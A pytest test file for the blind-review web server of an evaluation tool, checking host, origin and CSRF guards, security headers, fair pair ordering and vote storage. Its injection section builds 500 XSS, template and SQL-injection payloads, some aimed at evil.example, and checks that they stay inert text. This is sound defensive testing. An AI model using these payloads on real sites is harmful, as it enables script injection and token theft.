"""Blind review: who may speak to the server, what a page may tell, and what becomes of votes."""

from __future__ import annotations

import dataclasses
import html
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from http.cookiejar import CookieJar
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("fastapi", reason="galvan app needs the extra [app]")

from fastapi.routing import APIRoute

from app_run import PORT, SETTINGS, Browser, make_run, words
from galvan.app.guard import COOKIE, Guard
from galvan.app.pairs import alike, pairs_of_run, schedule
from galvan.app.ratings import ratings
from galvan.app.server import seldom
from galvan.app.store import Store, read_votes
from galvan.errors import DataError, RecipeError
from galvan.rundir import write_rows


@pytest.fixture
def run(tmp_path: Path) -> Path:
    return make_run(tmp_path / "run")


# ---- who may speak ----


def routes(browser: Browser, method: str) -> list[str]:
    found = [r.path for r in browser.app.routes if isinstance(r, APIRoute) and method in r.methods]
    assert found
    return found


@pytest.mark.parametrize(
    "host",
    ["evil.example", f"evil.example:{PORT}", "127.0.0.1", "127.0.0.1:1", f"127.0.0.1.evil.example:{PORT}", f"10.0.0.1:{PORT}", ""],
)
def test_a_foreign_host_is_refused_on_every_path(run: Path, host: str) -> None:
    browser = Browser(run).enter()
    for path in [*routes(browser, "GET"), "/static/app.css", "/nowhere"]:
        assert browser.client.get(path, headers={"host": host}).status_code == 403, path


@pytest.mark.parametrize("host", [f"127.0.0.1:{PORT}", f"localhost:{PORT}", f"[::1]:{PORT}", f"LOCALHOST:{PORT}"])
def test_the_names_of_this_machine_are_known(host: str) -> None:
    assert Guard("127.0.0.1", PORT).known_host(host)


def test_an_open_address_knows_addresses_but_no_name_that_anyones_dns_may_give_it() -> None:
    guard = Guard("0.0.0.0", PORT, "a long enough password")
    assert guard.known_host(f"192.168.1.7:{PORT}") and guard.known_host(f"[fe80::1]:{PORT}")
    assert not guard.known_host(f"evil.example:{PORT}")


@pytest.mark.parametrize(
    "origin", ["http://evil.example", "null", f"https://127.0.0.1:{PORT}", "http://127.0.0.1:1", f"http://localhost:{PORT}"]
)
def test_a_foreign_origin_is_refused_for_get_and_post(run: Path, origin: str) -> None:
    browser = Browser(run).enter()
    csrf = browser.csrf()
    assert browser.client.get("/review", headers={"origin": origin}).status_code == 403
    for path in routes(browser, "POST"):
        assert browser.client.post(path, data={"csrf": csrf}, headers={"origin": origin}).status_code == 403, path


def test_a_post_without_an_origin_is_refused(run: Path) -> None:
    browser = Browser(run).enter()
    assert browser.client.post("/review", data={"csrf": browser.csrf(), "number": "1", "choice": "left"}).status_code == 403


def test_without_the_cookie_every_page_is_refused_and_an_invented_one_does_not_help(run: Path) -> None:
    browser = Browser(run)
    for cookies in ({}, {COOKIE: "x" * 43}):
        browser.client.cookies = cookies
        for path in routes(browser, "GET"):
            assert browser.client.get(path).status_code == 403, path
        for path in routes(browser, "POST"):
            assert browser.client.post(path, headers={"origin": browser.origin}).status_code == 403, path


def test_the_printed_link_opens_one_session_and_is_then_worth_nothing(run: Path) -> None:
    browser = Browser(run)
    url = browser.guard.url
    assert browser.client.get("/?token=wrong").status_code == 403
    first = browser.client.get(url, follow_redirects=False)
    cookie = first.headers["set-cookie"]
    assert first.status_code == 303 and "token" not in first.headers["location"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "token" not in cookie.lower().replace(COOKIE, "")
    assert browser.client.get("/review/rater").status_code == 200
    assert browser.client.get(url).status_code == 403  # with the cookie
    browser.client.cookies.clear()
    assert browser.client.get(url).status_code == 403  # and without


def test_every_form_needs_the_csrf_token_of_its_own_session(run: Path) -> None:
    browser = Browser(run).enter()
    other = Browser(make_run(run.parent / "other")).enter().csrf()
    for path in routes(browser, "POST"):
        for csrf in ({}, {"csrf": ""}, {"csrf": "x"}, {"csrf": other}):
            said = browser.client.post(
                path, data={**csrf, "rater": "Eve", "choice": "left", "number": "1"}, headers={"origin": browser.origin}
            )
            assert said.status_code == 403, (path, csrf)
    assert browser.store.place("Ada").number == 1


def test_a_form_too_long_or_of_another_kind_is_refused(run: Path) -> None:
    browser = Browser(run).enter()
    csrf, origin = browser.csrf(), {"origin": browser.origin}
    assert browser.client.post("/review", data={"csrf": csrf, "reason": "x" * 70_000}, headers=origin).status_code == 413
    assert browser.client.post("/review", json={"csrf": csrf}, headers=origin).status_code == 415
    assert browser.client.post("/review", content="&".join(f"a{i}=1" for i in range(99)), headers={**origin, "content-type": "application/x-www-form-urlencoded"}).status_code == 400  # fmt: skip


def test_every_answer_carries_the_headers_that_keep_scripts_and_frames_out(run: Path) -> None:
    browser = Browser(run).enter()
    for path in ("/review", "/static/app.css", "/nowhere", "/review/result"):
        headers = browser.client.get(path).headers
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy and "unsafe" not in policy and "*" not in policy and "http" not in policy
        assert headers["x-content-type-options"] == "nosniff" and headers["referrer-policy"] in ("same-origin", "no-referrer")
        assert headers["cache-control"] == "no-store" and "server" not in headers


def test_no_page_asks_for_anything_from_elsewhere_and_no_script_or_style_is_inline(run: Path) -> None:
    here = Path(sys.modules["galvan.app"].__file__ or "").parent
    files = [*here.glob("templates/*"), *here.glob("static/*")]
    assert len(files) > 8
    for path in files:
        text = path.read_text(encoding="utf-8").replace("http://www.w3.org/2000/svg", "")
        assert "://" not in text and "innerHTML" not in text and not re.search(r"\son\w+=|style=|<style|<script(?! src=)", text), (
            path.name
        )


def test_nothing_is_traced_whatever_the_environment_asks(run: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from fastapi import FastAPI
    from fastapi.telemetry._asgi import NativeTelemetry

    monkeypatch.setenv("FASTAPI_OTEL_AUTO_CONFIGURE", "true")
    monkeypatch.setenv("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:9")
    config = Browser(run).app._telemetry
    usual = FastAPI()._telemetry
    for switch in ("tracing", "metrics", "logs", "operation_spans", "auto_configure"):
        assert usual[switch] is True and config[switch] is False  # type: ignore[literal-required]
    assert not NativeTelemetry(config).enabled()


def test_another_address_demands_a_password_that_is_long_enough() -> None:
    for host in ("0.0.0.0", "192.168.1.7", "::", "example.org"):
        with pytest.raises(RecipeError, match="GALVAN_APP_PASSWORD"):
            Guard(host, PORT)
    with pytest.raises(RecipeError, match="12 are the fewest"):
        Guard("0.0.0.0", PORT, "short")


def test_the_password_opens_a_new_session_and_wrong_ones_are_counted(run: Path) -> None:
    browser = Browser(run, host="0.0.0.0", password="a long enough password")
    assert browser.guard.token is None and browser.client.get("/review").url.path == "/login"
    before = browser.client.cookies[COOKIE]

    def give(password: str) -> Any:
        fields = {"csrf": browser.csrf("/login"), "password": password}
        return browser.client.post("/login", data=fields, headers={"origin": browser.origin}, follow_redirects=False)

    assert give("wrong").status_code == 403
    assert browser.client.get("/review", follow_redirects=False).headers["location"] == "/login"
    assert browser.client.post("/review", headers={"origin": browser.origin}).status_code == 403
    assert give("a long enough password").status_code == 303
    assert browser.client.cookies[COOKIE] != before and browser.client.get("/review").status_code == 200
    browser.client.cookies.clear()
    browser.client.get("/login")
    assert [give("wrong").status_code for _ in range(11)][-1] == 429
    assert give("a long enough password").status_code == 429


# ---- what a page may tell ----


def test_a_page_names_no_arm_and_is_as_long_whichever_side_is_which(run: Path) -> None:
    """Two seeds that show a rater the same pair first, on other sides."""
    pairs, _ = pairs_of_run(run, 0)
    pages: dict[tuple[str, bool], tuple[str, dict[str, str]]] = {}
    for seed in range(400):
        (index, swapped), *_ = schedule(seed, "Ada", len(pairs))
        if index == 3 and (sides := ("x", swapped)) not in pages:
            folder = make_run(run.parent / f"s{seed}")
            browser = Browser(folder, seed=seed)
            if browser.store.pairs[3].control:
                continue
            browser.enter()
            got = browser.client.get("/review")
            pages[sides] = got.text.replace(browser.csrf(), "c" * 43), dict(got.headers)
        if len(pages) == 2:
            break
    (one, headers), (two, other) = pages.values()
    assert one != two and len(one.encode()) == len(two.encode()) and headers == other
    assert sorted(one) == sorted(two)
    for page in (one, two):
        plain = re.sub(r"(bbb|ttt|aaa)\d+w\d+", "", page).lower()
        assert not re.search(r"\b(base|tuned|author|adapter|model|control|held-out)\b", plain)


def test_the_order_is_the_same_for_a_seed_and_a_name_and_another_for_others() -> None:
    assert schedule(1, "Ada", 40) == schedule(1, "Ada", 40)
    assert len({str(schedule(s, r, 40)) for s in (1, 2) for r in ("Ada", "Bo")}) == 4
    assert sorted(i for i, _ in schedule(1, "Ada", 40)) == list(range(40))


def test_sides_are_fair_and_do_not_follow_the_place_in_the_order() -> None:
    sides = [[swapped for _, swapped in schedule(seed, "Ada", 40)] for seed in range(500)]
    share = sum(map(sum, sides)) / 20_000
    assert abs(share - 0.5) < 4 * (0.25 / 20_000) ** 0.5
    for place in range(40):
        assert abs(sum(s[place] for s in sides) / 500 - 0.5) < 5 * (0.25 / 500) ** 0.5


def test_both_texts_have_one_length_and_one_typography() -> None:
    left, right = alike(["\u201cYes\u201d\u2014he said\n\nand " + "went " * 60, 'He said "no" -- and ' + "stayed " * 35])
    assert len(left.split()) == len(right.split()) and not set("\u201c\u201d\n") & set(left + right) and "--" not in right
    assert alike(["a " * 200, "b " * 3]) == [" ".join("a" * 30), "b b b"]


def test_no_prompt_is_shown_twice_and_a_quarter_are_controls_with_the_authors_text(run: Path) -> None:
    pairs, _ = pairs_of_run(run, 5)
    assert len({p.prompt_id for p in pairs}) == len(pairs) == 24 and sum(p.control for p in pairs) == 6
    for pair in pairs:
        kinds = {"tuned": "ttt", "base": "bbb", "author": "aaa"}
        assert pair.first.startswith(kinds[pair.first_arm]) and pair.second.startswith(kinds[pair.second_arm])


# ---- what becomes of votes ----


def shown_side(page: str, side: str) -> str:
    found = re.search(rf'id="{side}">\w+</h2><p class="text">(\w{{3}})', page)
    assert found
    return found[1]


def test_a_reader_who_always_picks_the_tuned_text_gives_it_every_win(run: Path) -> None:
    browser = Browser(run).enter()
    for _ in range(24):
        page = browser.client.get("/review").text
        browser.post("/review", number=browser.number(), choice="left" if shown_side(page, "left") == "ttt" else "right")
    found = ratings(run)
    assert found is not None and found.tuned is not None and found.author is not None
    assert (found.tuned.value, found.tuned.n, found.author.value, found.author.n) == (1.0, 18, 0.0, 6)
    assert found.answers == {"tuned": 18} and found.so_far.decision == "preferred"
    assert "All 24 pairs read" in browser.client.get("/review").text


def test_the_analysis_tells_what_readers_said_and_keeps_silent_where_the_comparison_is_refused(run: Path) -> None:
    from galvan.recipe import Recipe
    from galvan.report.evidence import Evidence
    from galvan.report.ratings import ratings_section

    e = Evidence(Recipe(), {}, {}, None, None, [], None, None)
    assert ratings(run) is None and ratings_section(e) == ""
    store = Store(run, 7)
    assert ratings(run) is None
    for rater in ("Ada", "Bo"):
        for number in range(1, 25):
            assert store.vote(rater, number, "bad")
    e = dataclasses.replace(e, ratings=ratings(run))
    text = ratings_section(e)
    assert "Tuned preferred to base | 0.50 (" in text and "| 36 | 18 | 2 |" in text and "2 raters say little" in text
    assert "18 prompts" in text and "not measurable" in text
    assert ratings_section(dataclasses.replace(e, refusal="A01")) == ""


def test_a_second_press_changes_nothing_and_undo_brings_the_same_pair_back(run: Path) -> None:
    browser = Browser(run).enter()
    first = browser.client.get("/review").text
    assert browser.post("/review", number="1", choice="left").status_code == 200
    assert browser.post("/review", number="1", choice="right").status_code == 409
    assert browser.number() == "2"
    assert browser.post("/review/undo").status_code == 200
    assert browser.client.get("/review").text == first
    assert browser.post("/review/undo").status_code == 409
    browser.post("/review", number="1", choice="tie", reason="both dull")
    found = ratings(run)
    assert found is not None and found.undone == 1


@pytest.mark.parametrize(
    "fields",
    [{"number": "1", "choice": "both"}, {"number": "x", "choice": "left"}, {"number": "99999999999", "choice": "left"}, {}],
)
def test_a_vote_that_is_none_is_refused(run: Path, fields: dict[str, str]) -> None:
    browser = Browser(run).enter()
    assert browser.post("/review", **fields).status_code == 400
    assert browser.number() == "1"


def test_who_has_seen_the_result_votes_no_more_and_others_may(run: Path) -> None:
    browser = Browser(run).enter()
    browser.post("/review", number="1", choice="left")
    assert browser.client.get("/review/result").status_code == 409
    assert "What readers said" in browser.post("/review/result").text
    assert browser.post("/review", number="2", choice="left").status_code == 409
    assert browser.post("/review/undo").status_code == 409
    browser.post("/review/rater", rater="Bo")
    assert browser.post("/review", number="1", choice="left").status_code == 200
    assert browser.client.get("/review/result").status_code == 409


def test_other_texts_than_those_judged_are_refused_and_a_damaged_file_is_named(run: Path) -> None:
    Store(run, 1).close()
    write_rows(run / "samples.jsonl", [
        {"prompt_id": "held-out:d0", "prompt": "P", "arm": arm, "sample": 0, "text": "new", "settings": SETTINGS} for arm in ("base", "tuned")
    ])  # fmt: skip
    with pytest.raises(RecipeError, match="texts that this run no longer has"):
        Store(run)
    for name in ("ratings.sqlite", "ratings.sqlite-wal", "ratings.sqlite-shm"):
        (run / name).unlink(missing_ok=True)
    (run / "ratings.sqlite").write_bytes(b"not a database, but long enough to be taken for one" * 30)
    for read in (Store, ratings):
        with pytest.raises(DataError, match=r"ratings\.sqlite"):
            read(run)
    (run / "ratings.sqlite").write_bytes(b"")  # every vote is lost: no reason to begin anew without a word
    for read in (Store, ratings):
        with pytest.raises(DataError, match=r"ratings\.sqlite"):
            read(run)
    assert (run / "ratings.sqlite").read_bytes() == b""


def test_of_two_that_begin_the_ratings_of_a_run_at_once_one_does(run: Path) -> None:
    with ThreadPoolExecutor(8) as pool:
        stores = list(pool.map(lambda seed: Store(run, seed), range(8)))
    assert len({store.seed for store in stores}) == 1 and stores[0].vote("Ada", 1, "left")
    assert [store.place("Ada").number for store in stores] == [2] * 8
    assert not list(run.glob(".ratings*"))


def test_a_vote_that_comes_in_while_the_votes_are_read_is_not_taken_for_a_lost_one(run: Path) -> None:
    store = Store(run, 7)
    store.vote("Ada", 1, "left")
    with closing(sqlite3.connect(run / "ratings.sqlite")) as db:
        late = [2]  # her second vote comes when the first was read and their number is asked for
        db.set_trace_callback(lambda sql: late and "sqlite_sequence" in sql and store.vote("Ada", late.pop(), "tie"))
        assert [vote.choice for vote in read_votes(db)] == ["left"]
        assert not late and [vote.choice for vote in read_votes(db)] == ["left", "tie"]


def test_what_every_page_asks_for_is_counted_at_most_a_tenth_of_the_time() -> None:
    now, counted = [100.0], list[float]()

    def count() -> float:
        counted.append(now[0])
        now[0] += 2  # seconds
        return now[0]

    lately = seldom(count, lambda: now[0])
    assert lately() == lately() == 102.0
    now[0] = 121.9
    assert lately() == 102.0
    now[0] = 122.0
    assert lately() == 124.0 and counted == [100.0, 122.0]


def test_a_run_without_texts_of_both_arms_is_refused(tmp_path: Path) -> None:
    run = make_run(tmp_path, 2)
    rows = [json.loads(line) for line in (run / "samples.jsonl").read_text().splitlines()]
    write_rows(run / "samples.jsonl", [r for r in rows if r["arm"] == "base"])
    with pytest.raises(RecipeError, match="nothing to read"):
        Store(run)
    assert not (run / "ratings.sqlite").exists()


# ---- injections ----

_MARKS = [
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "\"><svg onload=alert({n})>", "'-alert({n})-'", "</textarea><script>{n}</script>",
    "{{{{ {n} * 7 }}}}", "{{% for x in {n} %}}", "javascript:alert({n})", "</p></section><iframe src=//evil.example/{n}>", "<a href='jav&#x09;ascript:{n}'>",
    "&lt;script&gt;{n}", "\u202e{n}<b>", "<!--{n}-->", "]]><x {n}>", "\x00<script>{n}", "'; DROP TABLE votes; --{n}", "<style>*{{a:{n}}}</style>",
    "<form action=//evil.example/{n}><input name=csrf>", "${{{n}}}", "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
]  # fmt: skip
PAYLOADS = [mark.format(n=n) for n in range(25) for mark in _MARKS]
_TAGS = re.compile(r"<(/?[a-zA-Z!][^\s>/]*)")
_KNOWN = {"!doctype", "meta", "link", "input"} | {
    end + tag
    for end in ("", "/")
    for tag in (
        *(
            "html",
            "head",
            "title",
            "script",
            "body",
            "a",
            "header",
            "span",
            "nav",
            "main",
            "h1",
            "h2",
            "p",
            "section",
            "div",
            "form",
        ),
        *("fieldset", "legend", "button", "kbd", "label", "textarea", "progress"),
    )
}


def tags(page: str) -> list[str]:
    return [tag.lower() for tag in _TAGS.findall(page)]


def test_five_hundred_payloads_in_texts_prompts_reasons_and_names_stay_text(tmp_path: Path) -> None:
    assert len(set(PAYLOADS)) == 500
    place = {"ttt": 1, "bbb": 2, "aaa": 2}
    run = make_run(tmp_path, 125, lambda kind, n: f"{PAYLOADS[4 * n + place[kind]]} {words(kind, n)}", lambda n: PAYLOADS[4 * n])
    browser = Browser(run).enter()
    csrf, usual = browser.csrf(), None
    for number in range(1, 126):
        page = browser.client.get("/review").text
        usual = usual or tags(page)
        assert tags(page) == usual and set(usual) <= _KNOWN and f"Pair {number} of 125" in page, page
        browser.store.vote("Ada", number, "tie", PAYLOADS[4 * number - 1])
    assert "All 125 pairs read" in browser.client.get("/review").text
    for payload in PAYLOADS[:40]:
        said = browser.client.post("/review/rater", data={"csrf": csrf, "rater": payload}, headers={"origin": browser.origin}).text
        assert set(tags(said)) <= _KNOWN and said.count("<script") == 1, payload
        said = browser.client.post(
            "/review", data={"csrf": csrf, "number": "1", "choice": payload}, headers={"origin": browser.origin}
        ).text
        assert set(tags(said)) <= _KNOWN and said.count("<script") == 1, payload
    with sqlite3.connect(run / "ratings.sqlite") as db:
        assert db.execute("SELECT count(*) FROM votes").fetchone() == (125,)


# ---- a process of its own ----


class Process:
    """`galvan app RUN --review-only` as a person starts it, and a browser without JavaScript."""

    def __init__(self, run: Path, *arguments: str, enter: bool = True, review_only: bool = True, password: str = "") -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-m", "galvan", "app", str(run), *(["--review-only"] if review_only else []), *arguments], stdout=subprocess.PIPE, text=True,
            env={**os.environ, "GALVAN_APP_PASSWORD": password},
        )  # fmt: skip
        assert self.process.stdout is not None
        self.url = self.process.stdout.readline().strip()
        self.origin = self.url.partition("/?")[0].rstrip("/")
        self.web = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(CookieJar()))
        self.page = self.open(self.url) if enter else ""

    def open(self, url: str, **fields: str) -> str:
        data = urllib.parse.urlencode(fields).encode() if fields else None
        with self.web.open(urllib.request.Request(url, data, {"Origin": self.origin} if fields else {}), timeout=20) as answer:
            return str(answer.read().decode())

    def post(self, path: str, **fields: str) -> None:
        csrf = re.search(r'name="csrf" value="([^"]+)"', self.page)
        assert csrf
        self.page = self.open(self.origin + path, csrf=html.unescape(csrf[1]), **fields)

    def kill(self) -> None:
        self.process.send_signal(signal.SIGKILL)
        self.process.wait()


def test_no_acknowledged_vote_is_lost_when_the_server_is_killed(run: Path) -> None:
    server = Process(run)
    try:
        server.post("/review/rater", rater="Ada")
        for number in range(1, 21):
            server.post(
                "/review", number=str(number), choice=("left", "right", "tie", "bad")[number % 4], reason=f"because {number}"
            )
        server.post("/review/undo")
        assert "Pair 20 of 24" in server.page
        with pytest.raises(urllib.error.HTTPError, match="403"):
            server.open(server.url)
    finally:
        server.kill()
    with sqlite3.connect(run / "ratings.sqlite") as db:
        votes = db.execute("SELECT reason, undone_at IS NULL FROM votes ORDER BY id").fetchall()
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert votes == [(f"because {n}", n < 20) for n in range(1, 21)]
    again = Process(run)
    try:
        again.post("/review/rater", rater="Ada")
        assert "Pair 20 of 24" in again.page and again.url != server.url
    finally:
        again.kill()
